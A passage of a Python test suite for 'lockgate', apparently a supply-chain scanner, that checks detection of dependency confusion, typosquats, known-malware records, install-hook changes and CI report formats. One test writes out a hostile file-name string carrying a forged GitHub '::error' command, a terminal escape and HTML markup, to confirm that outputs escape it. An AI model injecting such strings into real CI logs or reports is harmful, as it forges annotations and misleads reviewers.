        "x-git @ git+git://git.example.invalid/x-git@" + commit)})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "findings": [finding("policy.insecure-url", severity="high", package="x-git",
                             lockfile_line=1)],
    })


@case
def case_policy_extra_index_trusted_host(t):
    """--extra-index-url: each changed registry entry without hashes is
    medium (low with hashes); --trusted-host is medium. Neither blocks."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(
        "--extra-index-url https://extra.example.invalid/simple",
        "--trusted-host extra.example.invalid",
        "benign-pkg==1.0")})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "findings": [
            finding("policy.extra-index", severity="medium", lockfile_line=3,
                    message=Contains("extra.example.invalid")),
            finding("policy.trusted-host", severity="medium", lockfile_line=3),
        ],
    }, no_findings=_blocking_none())
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(
        "--extra-index-url https://extra.example.invalid/simple", pin(b, BENIGN, "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "findings": [finding("policy.extra-index", severity="low", lockfile_line=2)],
    }, no_findings=_blocking_none() + [{"rule": "policy.trusted-host"}])


@case
def case_extra_index_lookup(t):
    """A pin whose file (lock hash) is only on the --extra-index-url index is
    read from there; the name is on one index only, so policy.extra-index
    stays low (hashes)."""
    prim, extra = t.server(), t.server()
    b = benign()
    prim.add(BENIGN, "1.0", [b])
    priv = L.sdist("corp-tool", "1.0")
    extra.add("corp-tool", "1.0", [priv])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(
        "--extra-index-url " + extra.simple_url, pin(b, BENIGN, "1.0"),
        pin(priv, "corp-tool", "1.0"))})
    res = t.check(repo, index_url=prim.simple_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "artifacts": [{"package": "corp-tool", "sha256": priv.sha256, "verdict": "pass"}],
        "findings": [finding("policy.extra-index", severity="low", package="corp-tool",
                             lockfile_line=3)],
        "errors": []},
        no_findings=[{"rule": "policy.extra-index", "severity": "high"},
                     {"rule": "hash.mismatch"}])
    t.expect_requested(extra, "/files/" + priv.filename)
    t.expect_requested(prim, "/simple/corp-tool/")


@case
def case_extra_index_confusion(t):
    """Dependency confusion: the private name is also on the other index,
    with other files (a higher public version): policy.extra-index is high
    and blocks, one finding per entry. The near case, an index that mirrors
    the same files, stays low."""
    prim, public = t.server(), t.server()
    mine = L.sdist("corp-lib", "1.0")
    prim.add("corp-lib", "1.0", [mine])
    evil = L.sdist("corp-lib", "99.0")
    public.add("corp-lib", "99.0", [evil])
    text = reqs("--extra-index-url " + public.simple_url, pin(mine, "corp-lib", "1.0"))
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": text})
    res = t.check(repo, index_url=prim.simple_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "artifacts": [{"package": "corp-lib", "sha256": mine.sha256}],
        "findings": [finding("policy.extra-index", severity="high", package="corp-lib",
                             lockfile_line=2, message=Contains("dependency confusion"))]},
        no_findings=[{"rule": "policy.extra-index", "severity": OneOf("low", "medium")}])
    if sum(f["rule"] == "policy.extra-index" for f in res.json["findings"]) != 1:
        raise Fail("expected one policy.extra-index finding\n" + res.describe())
    # near case: the extra index mirrors the same file
    mirror = t.server()
    mirror.add("corp-lib", "1.0", [mine])
    text = reqs("--extra-index-url " + mirror.simple_url, pin(mine, "corp-lib", "1.0"))
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": text})
    res = t.check(repo, index_url=prim.simple_url)
    t.expect(res, rc=0, subset={
        "findings": [finding("policy.extra-index", severity="low", package="corp-lib")]},
        no_findings=[{"rule": "policy.extra-index", "severity": "high"}])


@case
def case_policy_typosquat(t):
    """A newly added 'reqeusts' imitates 'requests': squat.typosquat (high)
    naming it. Near cases: adding 'requests' itself, and upgrading a
    squat-like name that was already locked, report nothing."""
    srv = t.server()
    sq1, sq2 = L.sdist("reqeusts", "1.0"), L.sdist("reqeusts", "1.1")
    real = L.sdist("requests", "2.0")
    srv.add("reqeusts", "1.0", [sq1])
    srv.add("reqeusts", "1.1", [sq2])
    srv.add("requests", "2.0", [real])
    repo = t.repo({"requirements.txt": "# deps\n"},
                  {"requirements.txt": reqs("# deps", pin(sq1, "reqeusts", "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "findings": [finding("squat.typosquat", severity="high", package="reqeusts",
                             lockfile="requirements.txt", lockfile_line=2,
                             message=Contains("'requests'"))],
    })
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": reqs(pin(real, "requests", "2.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, no_findings=[{"rule": "squat.typosquat"}])
    repo = t.repo({"requirements.txt": reqs(pin(sq1, "reqeusts", "1.0"))},
                  {"requirements.txt": reqs(pin(sq2, "reqeusts", "1.1"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, no_findings=[{"rule": "squat.typosquat"}])


def _malware_db(t, records):
    root = t.mk("malicious-packages", "osv", "malicious", "pypi")
    for i, rec in enumerate(records):
        d = os.path.join(root, rec["affected"][0]["package"]["name"])
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "%s.json" % rec["id"]), "w") as f:
            json.dump(rec, f)
    with open(os.path.join(root, "README.md"), "w") as f:
        f.write("not a record\n")
    return os.path.dirname(os.path.dirname(os.path.dirname(root)))


@case
def case_policy_known_malware(t):
    """--malware-db: an OSV MAL- record listing the version blocks even with
    --fail-on critical; another version of the same name passes; a missing
    db makes the check incomplete."""
    srv = t.server()
    b1, b2 = benign("1.0"), benign("1.1")
    srv.add(BENIGN, "1.0", [b1])
    srv.add(BENIGN, "1.1", [b2])
    db = _malware_db(t, [
        {"id": "MAL-2099-4242", "summary": "Malicious code in benign-pkg (PyPI)",
         "affected": [{"package": {"ecosystem": "PyPI", "name": "Benign_Pkg"},
                       "ranges": [{"type": "ECOSYSTEM",
                                   "events": [{"introduced": "1.1"}, {"fixed": "1.2"}]}]}]},
        {"id": "MAL-2099-0001", "affected": [{"package": {"ecosystem": "npm",
                                                          "name": "benign-pkg"}}]},
    ])
    repo = t.repo({"requirements.txt": reqs(pin(b1, BENIGN, "1.0"))},
                  {"requirements.txt": reqs(pin(b2, BENIGN, "1.1"))})
    res = t.check(repo, "--malware-db", db, "--fail-on", "critical",
                  index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "findings": [finding("mal.known", severity="critical", package=BENIGN,
                             version="1.1", lockfile_line=1,
                             message=Contains("MAL-2099-4242"))],
    })
    # --warn-only is for rolling out heuristics: known malware still fails.
    res = t.check(repo, "--malware-db", db, "--warn-only", index_url=srv.index_url)
    t.expect(res, rc=1, subset={"findings": [finding("mal.known")]}, note="--warn-only")
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(pin(b1, BENIGN, "1.0"))})
    res = t.check(repo, "--malware-db", db, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass"}, no_findings=[{"rule": "mal.known"}])
    res = t.check(repo, "--malware-db", os.path.join(t.tmp, "absent"),
                  index_url=srv.index_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "errors": [{"message": Contains("absent")}]})


CMDCLASS_SETUP = ("from setuptools import setup\n"
                  "from setuptools.command.install import install\n"
                  "\n"
                  "\n"
                  "class Install(install):\n"
                  "    def run(self):\n"
                  "        install.run(self)\n"
                  "\n"
                  "\n"
                  "setup(name='benign-pkg', version='%s', packages=['benign_pkg'],\n"
                  "      cmdclass={'install': Install})\n")


@case
def case_transition_new_cmdclass(t):
    """An upgrade whose sdist adds an install cmdclass override the old
    sdist did not have: transition.new-install-behaviour (high) naming the
    old version, on the lock line; exit 1. Near case: both versions have the
    same override (moved lines too): only the medium cmdclass finding."""
    srv = t.server()
    old = benign("1.0")
    new = L.sdist(BENIGN, "1.1", setup_py=CMDCLASS_SETUP % "1.1")
    srv.add(BENIGN, "1.0", [old])
    srv.add(BENIGN, "1.1", [new])
    repo = t.repo({"requirements.txt": reqs("# deps", pin(old, BENIGN, "1.0"))},
                  {"requirements.txt": reqs("# deps", pin(new, BENIGN, "1.1"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "findings": [finding("transition.new-install-behaviour", severity="high",
                             package=BENIGN, version="1.1", file=new.filename,
                             path=Contains("setup.py"), lockfile="requirements.txt",
                             lockfile_line=2, message=Contains("since 1.0"))],
        "artifacts": [{"package": BENIGN, "version": "1.1", "verdict": "block"}],
    }, no_findings=[{"version": "1.0"}])
    old2 = L.sdist(BENIGN, "1.0.1", setup_py="\n\n" + CMDCLASS_SETUP % "1.0.1")
    srv.add(BENIGN, "1.0.1", [old2])
    repo = t.repo({"requirements.txt": reqs(pin(old2, BENIGN, "1.0.1"))},
                  {"requirements.txt": reqs(pin(new, BENIGN, "1.1"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "findings": [finding("install.cmdclass-override", version="1.1")],
    }, no_findings=[{"rule": "transition.new-install-behaviour"}, {"version": "1.0.1"}])


@case
def case_transition_new_pth(t):
    """A wheel upgrade that adds a .pth running code at every start is a
    transition (wheels are compared with wheels)."""
    srv = t.server()
    w1 = L.wheel(BENIGN, "1.0")
    w2 = L.wheel(BENIGN, "1.1", pth={"zz_benign.pth": "import os; os.getenv('X')\n"})
    srv.add(BENIGN, "1.0", [w1])
    srv.add(BENIGN, "1.1", [w2])
    repo = t.repo({"requirements.txt": reqs(pin(w1, BENIGN, "1.0"))},
                  {"requirements.txt": reqs(pin(w2, BENIGN, "1.1"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "findings": [finding("transition.new-install-behaviour", severity="high",
                             file=w2.filename, message=Contains("startup"))],
    })
    t.expect_requested(srv, "/files/" + w1.filename)


@case
def case_policy_osv_api(t):
    """--osv-url: the querybatch answer names a MAL- advisory for the
    changed version: mal.known (critical), exit 1; a GHSA advisory for the
    same version is not malware (pass); an answer that does not fit the
    query makes the check incomplete (exit 2), never a pass."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": "# deps\n"},
                  {"requirements.txt": reqs("# deps", pin(b, BENIGN, "1.0"))})
    srv.osv_answer({"results": [{"vulns": [{"id": "GHSA-aaaa-bbbb-cccc"},
                                           {"id": "MAL-2099-77", "modified": "2099-01-01T00:00:00Z"}]}]})
    res = t.check(repo, "--osv-url", srv.osv_url, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "findings": [finding("mal.known", severity="critical", package=BENIGN,
                             lockfile_line=2, message=Contains("MAL-2099-77"))],
    })
    t.expect_requested(srv, "/osv/v1/querybatch")
    srv.osv_answer({"results": [{"vulns": [{"id": "GHSA-aaaa-bbbb-cccc"}]}]})
    res = t.check(repo, "--osv-url", srv.osv_url + "/", index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass"}, no_findings=[{"rule": "mal.known"}])
    srv.osv_answer({"results": []})
    res = t.check(repo, "--osv-url", srv.osv_url, index_url=srv.index_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "errors": [{"message": Contains("OSV query")}]})
    # On by default: without LOCKGATE_OSV_URL the query goes to api.osv.dev,
    # which this machine cannot reach (proxies point nowhere): incomplete,
    # never a silent pass. LOCKGATE_OSV_URL names the local one; --no-osv
    # turns the query off.
    res = t.check(repo, index_url=srv.index_url,
                  env={"LOCKGATE_OSV_URL": None, "https_proxy": "http://127.0.0.1:9",
                       "NO_PROXY": "127.0.0.1,localhost", "no_proxy": "127.0.0.1,localhost"})
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "errors": [{"message": Contains("OSV query")}]})
    srv.osv_answer({"results": [{"vulns": [{"id": "MAL-2099-77"}]}]})
    res = t.check(repo, index_url=srv.index_url, env={"LOCKGATE_OSV_URL": srv.osv_url})
    t.expect(res, rc=1, subset={"findings": [finding("mal.known")]})
    res = t.check(repo, "--no-osv", index_url=srv.index_url,
                  env={"LOCKGATE_OSV_URL": srv.osv_url})
    t.expect(res, rc=0, no_findings=[{"rule": "mal.known"}])


def _read(path):
    with open(path, encoding="utf-8") as f:
        return f.read()


def _load_json(path, res):
    try:
        with open(path, encoding="utf-8") as f:
            return json.load(f)
    except (OSError, ValueError) as e:
        raise Fail("%s unreadable as JSON: %s\n%s" % (path, e, res.describe()))


def _gh_outputs(path):
    """$GITHUB_OUTPUT as GitHub reads it: name=value and name<<DELIM blocks."""
    out, lines, i = {}, _read(path).split("\n"), 0
    while i < len(lines):
        line = lines[i]
        m = re.match(r"^([A-Za-z0-9_-]+)<<(.+)$", line)
        if m:
            name, delim, vals = m.group(1), m.group(2), []
            i += 1
            while lines[i] != delim:
                vals.append(lines[i])
                i += 1
            out[name] = "\n".join(vals)
        elif "=" in line:
            k, v = line.split("=", 1)
            out[k] = v
        i += 1
    return out


def _expect_gh_lines(text, res):
    bad = [line for line in text.splitlines() if not GH_LINE.match(line)]
    if bad:
        raise Fail("github output has a line that is not ours: %r\n%s" % (bad[0], res.describe()))


def _check_sarif(doc, lockfile, line, res):
    problems = []
    _match(doc, {"version": "2.1.0", "$schema": "https://json.schemastore.org/sarif-2.1.0.json",
                 "runs": [{"tool": {"driver": {"name": "lockgate", "rules": ANY}},
                           "results": ANY}]}, "$", problems)
    if problems:
        raise Fail("SARIF: %s\n%s" % ("; ".join(problems), res.describe()))
    run = doc["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    for r in rules:
        for k in ("id", "shortDescription", "fullDescription", "help", "defaultConfiguration"):
            if k not in r:
                raise Fail("SARIF rule %s lacks %s" % (r.get("id"), k))
    for r in run["results"]:
        if rules[r["ruleIndex"]]["id"] != r["ruleId"] or r["level"] not in ("error", "warning", "note"):
            raise Fail("SARIF result %r: bad ruleIndex or level" % r)
        loc = r["locations"][0]["physicalLocation"]
        if lockfile is not None and (loc["artifactLocation"]["uri"] != lockfile
                                     or loc["region"]["startLine"] != line):
            raise Fail("SARIF location %r, expected %s:%d" % (loc, lockfile, line))
        if not r["message"]["text"] or not r["partialFingerprints"]:
            raise Fail("SARIF result without message or fingerprint: %r" % r)
    return run


def _check_codequality(doc, res):
    if not isinstance(doc, list) or not doc:
        raise Fail("Code Quality report is not a non-empty array\n" + res.describe())
    for it in doc:
        if not (isinstance(it.get("description"), str) and it.get("check_name")
                and re.match(r"^[0-9a-f]{32}$", it.get("fingerprint", ""))
                and it.get("severity") in ("info", "minor", "major", "critical", "blocker")
                and isinstance(it["location"]["path"], str)
                and isinstance(it["location"]["lines"]["begin"], int)):
            raise Fail("bad Code Quality issue %r" % it)
    if len({it["fingerprint"] for it in doc}) != len(doc):
        raise Fail("Code Quality fingerprints are not unique")


def _blocked_change(t):
    """A server with demo-pkg and a repo whose second commit adds it on line 2."""
    srv = t.server()
    m = L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    first = "# deps\n"
    repo = t.repo({"requirements.txt": first},
                  {"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"})
    return srv, m, repo


@case
def case_formats_github_and_files(t):
    """--format github on stdout, sarif/gitlab/json to their own files, and
    the job summary and step outputs appended to GitHub's env files."""
    srv, m, repo = _blocked_change(t)
    f = {k: os.path.join(t.tmp, k) for k in ("out.sarif", "gl.json", "r.json", "summary.md",
                                              "output.txt")}
    with open(f["summary.md"], "w") as fh:
        fh.write("# an earlier step\n")
    res = t.check(repo, "--format", "github", "--format", "sarif", "--output", f["out.sarif"],
                  "--format", "gitlab", "--output", f["gl.json"],
                  "--format", "json", "--output", f["r.json"], index_url=srv.index_url,
                  fmt=None, env={"GITHUB_STEP_SUMMARY": f["summary.md"],
                                 "GITHUB_OUTPUT": f["output.txt"]})
    t.expect(res, rc=1)
    _expect_gh_lines(res.stdout, res)
    want = ("::error file=requirements.txt,line=2,title=exec.decode-exec (critical) "
            "in demo-pkg 1.0::%s member demo_pkg-1.0/setup.py line " % m.filename)
    if want not in res.stdout or "::warning file=requirements.txt,line=2," not in res.stdout:
        raise Fail("github annotations missing %r\n%s" % (want, res.describe()))
    run = _check_sarif(_load_json(f["out.sarif"], res), "requirements.txt", 2, res)
    if not any(r["ruleId"] == "exec.decode-exec" and
               r["locations"][0]["logicalLocations"][0]["name"] == "demo_pkg-1.0/setup.py"
               for r in run["results"]):
        raise Fail("SARIF lacks the member location of exec.decode-exec")
    gl = _load_json(f["gl.json"], res)
    _check_codequality(gl, res)
    if not any(i["check_name"] == "exec.decode-exec" and i["location"] ==
               {"path": "requirements.txt", "lines": {"begin": 2}} for i in gl):
        raise Fail("Code Quality lacks exec.decode-exec on requirements.txt:2: %r" % gl)
    doc = _load_json(f["r.json"], res)
    problems = []
    _match(doc, {"schema": 1, "verdict": "block", "summary": {"blocked": 1},
                 "policy": {"fail_on": "high"},
                 "findings": [finding("exec.decode-exec", fingerprint=ANY)]}, "$", problems)
    if problems:
        raise Fail("JSON report: " + "; ".join(problems))
    summary = _read(f["summary.md"])
    for want in ("# an earlier step\n", "## lockgate: block",
                 "<details><summary>demo-pkg 1.0: block",
                 "| requirements.txt:2 | demo-pkg | added |"):
        if want not in summary:
            raise Fail("job summary lacks %r:\n%s" % (want, summary))
    outs = _gh_outputs(f["output.txt"])
    want = {"verdict": "block", "exit-code": "1", "blocked": "1", "changes": "1",
            "blocked-packages": "demo-pkg 1.0"}
    if any(outs.get(k) != v for k, v in want.items()):
        raise Fail("step outputs %r, expected %r" % (outs, want))


@case
def case_format_pairing(t):
    """Each --output belongs to the --format before it; bad pairings are usage errors."""
    b = benign()
    path = os.path.join(t.tmp, b.filename)
    with open(path, "wb") as fh:
        fh.write(b.data)
    x, y = os.path.join(t.tmp, "x"), os.path.join(t.tmp, "y")
    for argv in (["--format", "json", "--format", "text"],
                 ["--format", "json", "--output", x, "--output", y],
                 ["--format", "sarif", "--output", x, "--format", "gitlab", "--output", x],
                 ["--format", "yaml"], ["--fail-on", "severe"]):
        t.expect(t.run("scan", *argv, path), rc=3, note=" ".join(argv))
    res = t.run("scan", "--output", x, "--format", "sarif", "--format", "json", path)
    t.expect(res, rc=0, subset={"verdict": "pass"})  # json went to stdout
    _check_sarif(_load_json(x, res), None, 0, res)


@case
def case_hostile_strings_in_sinks(t):
    """Member names with newlines, '::' commands, '%', terminal escapes and
    HTML reach every sink only escaped."""
    evil = "demo_pkg-1.0/x\n::error file=pwned.py::owned %0A\x1b[2J<img src=x>.py"
    srv = t.server()
    m = L.sdist("demo-pkg", "1.0", setup_py=L.demo_setup_py(),
                extra={evil.split("/", 1)[1]: "print('hi')\n"})
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(m, "demo-pkg", "1.0") + "\n"})
    summ, outp = os.path.join(t.tmp, "summary.md"), os.path.join(t.tmp, "out.txt")
    gl, sarif = os.path.join(t.tmp, "gl.json"), os.path.join(t.tmp, "s.sarif")
    res = t.check(repo, "--format", "github", "--format", "gitlab", "--output", gl,
                  "--format", "sarif", "--output", sarif, index_url=srv.index_url, fmt=None,
                  env={"GITHUB_STEP_SUMMARY": summ, "GITHUB_OUTPUT": outp})
    t.expect(res, rc=1)
    _expect_gh_lines(res.stdout, res)
    if "pwned" not in res.stdout or "\x1b" in res.stdout:
        raise Fail("the hostile member is missing or unescaped\n" + res.describe())
    _check_codequality(_load_json(gl, res), res)
    _check_sarif(_load_json(sarif, res), "requirements.txt", 1, res)
    summary = _read(summ)
    if "<img" in summary or "\x1b" in summary or "::error file=pwned" in summary:
        raise Fail("job summary carries raw markup:\n" + summary)
    txt = t.check(repo, index_url=srv.index_url, fmt="text")
    if "\x1b" in txt.stdout or "\n::error" in txt.stdout:
        raise Fail("text report carries a raw escape\n" + txt.describe())


def _three_commits(t):
    """c1: benign; c2: adds demo-pkg; c3: README only. Returns (srv, repo, c1)."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    first = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"requirements.txt": first},
                  {"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"},
                  {"README": "docs\n"})
    return srv, repo, repo.git("rev-parse", "HEAD~2").strip()


def _event(t, payload):
    path = os.path.join(t.tmp, "event-%d.json" % len(os.listdir(t.tmp)))
    with open(path, "w") as fh:
        json.dump(payload, fh)
    return path


@case
def case_ci_base_github(t):
    """Without --base, GitHub's event names the base, and lockgate says which."""
    srv, repo, c1 = _three_commits(t)
    head = repo.git("rev-parse", "HEAD").strip()
    for payload, why in (({"pull_request": {"base": {"sha": c1}, "head": {"sha": head}},
                           "number": 7}, "pull_request.base.sha"),
                         ({"merge_group": {"base_sha": c1, "head_sha": head}},
                          "merge_group.base_sha"),
                         ({"before": c1, "after": head}, "push before")):
        env = {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_PATH": _event(t, payload)}
        res = t.check(repo, index_url=srv.index_url, base=None, env=env)
        t.expect(res, rc=1, subset={"changes": [{"name": "demo-pkg", "kind": "added"}],
                                    "revisions": {"base": c1, "head": "HEAD"}}, note=why)
        if "lockgate: base %s (%s)" % (c1, why) not in res.stderr:
            raise Fail("stderr does not name the base\n" + res.describe())
        base = t.run("ci-base", env=env, cwd=repo.path)
        if base.rc != 0 or base.stdout.strip() != c1:
            raise Fail("ci-base\n" + base.describe())
    env = {"GITHUB_ACTIONS": "true",
           "GITHUB_EVENT_PATH": _event(t, {"before": ZERO_SHA, "after": head})}
    res = t.check(repo, index_url=srv.index_url, base=None, env=env)
    t.expect(res, rc=0, subset={"changes": []}, note="new branch: default base")
    if "base HEAD~1, the default (push of a new branch" not in res.stderr:
        raise Fail("stderr does not say the default was used\n" + res.describe())
    bad = {"GITHUB_ACTIONS": "true",
           "GITHUB_EVENT_PATH": _event(t, {"pull_request": {"base": {"sha": "--help"}}})}
    t.expect(t.check(repo, index_url=srv.index_url, base=None, env=bad), rc=2,
             note="a base that is not a commit id")


@case
def case_ci_base_gitlab(t):
    srv, repo, c1 = _three_commits(t)
    for extra, rc in (({"CI_MERGE_REQUEST_DIFF_BASE_SHA": c1, "CI_COMMIT_BEFORE_SHA": ZERO_SHA}, 1),
                      ({"CI_COMMIT_BEFORE_SHA": c1}, 1),
                      ({"CI_COMMIT_BEFORE_SHA": ZERO_SHA}, 0)):
        env = dict(extra, GITLAB_CI="true")
        res = t.check(repo, index_url=srv.index_url, base=None, env=env)
        t.expect(res, rc=rc, note=repr(extra))
        if rc == 1 and "lockgate: base %s (" % c1 not in res.stderr:
            raise Fail("stderr does not name the base\n" + res.describe())
        if rc == 0 and "the default (CI_COMMIT_BEFORE_SHA is all zeros" not in res.stderr:
            raise Fail("stderr does not say the default was used\n" + res.describe())


def _shallow_clone(t, repo):
    dst = os.path.join(t.tmp, "shallow")
    L._run(["git", "clone", "-q", "--depth", "1", "file://" + repo.path, dst],
           env=t.env())
    return dst


@case
def case_ci_base_shallow(t):
    """The PR base is missing from a depth-1 clone: exit 2 with how to fetch
    it, in every format; ci/lockgate-ci fetches it and then blocks."""
    srv, repo, c1 = _three_commits(t)
    shallow = _shallow_clone(t, repo)
    event = _event(t, {"pull_request": {"base": {"sha": c1}}})
    env = {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_PATH": event}
    res = t.run("check", "--repo", shallow, "--index-url", srv.index_url, "--format", "json",
                env=env)
    t.expect(res, rc=2, subset={"verdict": "incomplete", "errors": [{"message": ANY}]})
    msg = res.json["errors"][0]["message"]
    if "shallow clone" not in msg or "git fetch" not in msg or c1 not in msg:
        raise Fail("the message does not say how to fetch the base: %r" % msg)
    gh = t.run("check", "--repo", shallow, "--index-url", srv.index_url, "--format", "github",
               env=env)
    t.expect(gh, rc=2)
    _expect_gh_lines(gh.stdout, gh)
    if "::error title=lockgate could not check::" not in gh.stdout:
        raise Fail("no error annotation for the missing base\n" + gh.describe())
    # the action's script fetches the base, then the check blocks
    f = {k: os.path.join(t.tmp, k) for k in ("summary.md", "output.txt", "l.sarif")}
    flags = "--index-url %s --ca-bundle %s --cache-dir %s" % (srv.index_url, t.ca.ca_pem,
                                                             t.mk("ci-cache"))
    p = subprocess.run([os.path.join(REPO_ROOT, "ci", "lockgate-ci"), "github"], cwd=shallow,
                       env=t.env(dict(env, LOCKGATE=t.bin, LOCKGATE_FLAGS=flags,
                                      LOCKGATE_SARIF=f["l.sarif"],
                                      GITHUB_STEP_SUMMARY=f["summary.md"],
                                      GITHUB_OUTPUT=f["output.txt"])),
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=120)
    r = Result(["ci/lockgate-ci", "github"], p.returncode, p.stdout, p.stderr, 0)
    t.expect(r, rc=1)
    _expect_gh_lines(p.stdout, r)
    if "fetching base %s" % c1 not in p.stderr:
        raise Fail("the script did not fetch the base\n" + r.describe())
    _check_sarif(_load_json(f["l.sarif"], r), "requirements.txt", 2, r)
    outs = _gh_outputs(f["output.txt"])
    if outs.get("verdict") != "block" or outs.get("sarif-file") != f["l.sarif"]:
        raise Fail("step outputs %r" % outs)
    if "## lockgate: block" not in _read(f["summary.md"]):
        raise Fail("no job summary")
    # warn-only: the same block, exit 0
    p = subprocess.run([os.path.join(REPO_ROOT, "ci", "lockgate-ci"), "github"], cwd=shallow,
                       env=t.env(dict(env, LOCKGATE=t.bin, LOCKGATE_FLAGS=flags,
                                      LOCKGATE_SARIF=f["l.sarif"], LOCKGATE_WARN_ONLY="true")),
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=120)
    if p.returncode != 0 or "exec.decode-exec" not in p.stdout:
        raise Fail("warn-only: exit %d\n%s\n%s" % (p.returncode, p.stdout, p.stderr))


def _yaml():
    try:
        import yaml  # python3-yaml: a dependency of Debian's pre-commit
    except ImportError:
        raise Skip("python3-yaml not installed")
    return yaml


@case
def case_gitlab_template(t):
    """ci/lockgate.gitlab-ci.yml: its script, run in a simulated GitLab MR
    pipeline, writes the Code Quality report the template uploads."""
    yaml = _yaml()
    tpl = yaml.safe_load(_read(os.path.join(REPO_ROOT, "ci", "lockgate.gitlab-ci.yml")))
    job = tpl[".lockgate"]
    report = job["artifacts"]["reports"]["codequality"]
    if report != job["variables"]["LOCKGATE_CODEQUALITY"] or job["artifacts"]["when"] != "always":
        raise Fail("template uploads %r" % job["artifacts"])
    if not any("merge_request_event" in r.get("if", "") for r in tpl["lockgate"]["rules"]):
        raise Fail("the lockgate job does not run in MR pipelines")
    srv, repo, c1 = _three_commits(t)
    env = {k: str(v) for k, v in job["variables"].items() if "$" not in str(v)}
    env.update(GITLAB_CI="true", CI_PIPELINE_SOURCE="merge_request_event",
               CI_MERGE_REQUEST_DIFF_BASE_SHA=c1, CI_COMMIT_BEFORE_SHA=ZERO_SHA,
               CI_PROJECT_DIR=repo.path, LOCKGATE_HOME=REPO_ROOT, LOCKGATE=t.bin,
               XDG_CACHE_HOME=t.mk("gl-cache"),
               LOCKGATE_FLAGS="--index-url %s --ca-bundle %s" % (srv.index_url, t.ca.ca_pem))
    rc, out = 0, ""
    for line in job["script"]:
        p = subprocess.run(["bash", "-ec", line], cwd=repo.path, env=t.env(env),
                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                           timeout=120)
        rc, out = p.returncode, out + p.stdout
    r = Result(["gitlab script"], rc, out, "", 0)
    t.expect(r, rc=1)
    if "exec.decode-exec" not in out or "base %s (CI_MERGE_REQUEST_DIFF_BASE_SHA)" % c1 not in out:
        raise Fail("job log lacks the finding or the base\n" + r.describe())
    gl = _load_json(os.path.join(repo.path, report), r)
    _check_codequality(gl, r)
    if not any(i["check_name"] == "exec.decode-exec" and i["severity"] == "blocker" and
               i["location"]["path"] == "requirements.txt" for i in gl):
        raise Fail("Code Quality report: %r" % gl)


@case
def case_action_yml(t):
    """action.yml is a composite action whose steps pass inputs through env
    and pin every action by commit; the example workflow starts with
    permissions: {}."""
    yaml = _yaml()
    act = yaml.safe_load(_read(os.path.join(REPO_ROOT, "action.yml")))
    if act["runs"]["using"] != "composite":
        raise Fail("not a composite action")
    for k in ("fail-on-severity", "config-file", "warn-only", "base-ref", "head-ref"):
        if k not in act["inputs"]:
            raise Fail("input %s missing" % k)
    pinned = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
    for step in act["runs"]["steps"]:
        if "run" in step and ("shell" not in step or "${{" in step["run"]):
            raise Fail("run step without shell or with interpolation: %r" % step)
        if "uses" in step and not pinned.match(step["uses"]):
            raise Fail("action not pinned by commit: %s" % step["uses"])
        if "run" in step and "ci/" not in step["run"]:
            raise Fail("run step does not call a ci/ script: %r" % step)
    out = os.path.join(t.tmp, "output.txt")
    p = subprocess.run([os.path.join(REPO_ROOT, "ci", "action-build"), "--cache-key"],
                       env=t.env({"GITHUB_OUTPUT": out}), stdout=subprocess.PIPE,
                       stderr=subprocess.STDOUT, text=True, timeout=60)
    if p.returncode != 0 or not re.match(r"^key=lockgate-build-\S+-[0-9a-f]{32}$",
                                         _read(out).strip()):
        raise Fail("action-build --cache-key:\n%s%s" % (p.stdout, _read(out)))
    wf = yaml.safe_load(_read(os.path.join(REPO_ROOT, "ci", "examples", "lockgate-workflow.yml")))
    if wf.get("permissions") != {}:
        raise Fail("the example workflow does not start from permissions: {}")
    for job in wf["jobs"].values():
        for step in job["steps"]:
            u = step.get("uses", "")
            if u and not u.startswith("OWNER/lockgate@") and not pinned.match(u):
